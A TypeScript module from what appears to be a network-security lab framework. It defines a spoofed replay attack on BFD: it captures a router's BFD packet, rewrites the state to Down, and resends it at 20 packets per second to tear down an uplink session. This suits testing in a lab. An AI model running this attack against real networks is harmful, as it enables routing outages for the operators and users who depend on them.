import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Attack } from '../attack';
import { overhearBfd } from './overheard';
import { spoofed } from './spoofed';

/** First bytes of a control packet: version 1 with diagnostic 3, "neighbor signaled session down"; state Down (RFC 5880 section 4.1). */
const down = [(1 << 5) | 3, 1 << 6] as const;

/** BFD has no number that would tell an old packet from a new one, where it is not authenticated. */
export const replayedBfd: Attack = {
  name: 'replayed-bfd',
  summary: 'replays a BFD packet of a border to its PE with the state Down, from two hops away',
  attacked: 'BFD of an uplink, and with it its session',
  ...spoofed('20 packets/s', async ({ lab, node }, target) => {
    const { sourcePort, payload } = await overhearBfd(lab, target);
    const file = join(node.folder, 'bfd');
    writeFileSync(file, Buffer.concat([Buffer.from(down), payload.subarray(down.length)]));
    return ['--udp', '-c', '5', '-i', 'u50000', '-s', String(sourcePort), '-p', '3784', '-d', String(payload.length), '-E', file];
  }),
};
